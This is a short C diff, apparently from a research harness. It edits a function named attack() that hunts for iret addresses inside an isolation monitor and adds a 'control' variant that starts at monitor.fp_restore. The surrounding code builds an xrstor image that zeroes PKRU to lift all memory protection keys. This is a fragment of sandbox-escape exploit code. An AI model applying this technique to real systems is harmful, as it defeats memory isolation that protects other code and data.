@@ -16,7 +16,8 @@ static int near(const uint64_t *irets, int n, uint64_t ip)
 int attack(void)
 {
 	uint64_t irets[16];
-	uint64_t from = GATE, end = value("monitor._start");
+	/* A control knows what it is looking for. */
+	uint64_t from = control() ? value("monitor.fp_restore") : GATE, end = value("monitor._start");
 
 	/* An image for xrstor that opens everything: PKRU 0 in both formats. */
 	((uint64_t *)jump_area)[64] = 1 << 9;
